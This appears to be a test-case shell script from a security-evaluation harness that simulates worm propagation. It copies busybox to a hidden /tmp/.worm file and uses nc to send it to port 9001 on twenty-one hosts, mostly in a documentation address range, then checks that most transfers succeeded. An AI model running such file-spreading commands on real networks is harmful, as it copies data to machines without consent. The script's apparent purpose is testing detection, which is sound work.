#!/bin/sh
. /opt/case/case.sh

cp /bin/busybox /tmp/.worm; n=0
for h in 10.77.0.1 $(seq 30 49 | sed s/^/203.0.113./); do
    { printf 'W1 %s\n' "$(stat -c %s /tmp/.worm)"; head -c 60000 /tmp/.worm; } | nc -w 3 $h 9001 && n=$((n + 1))
done
test $n -gt 18
took_place
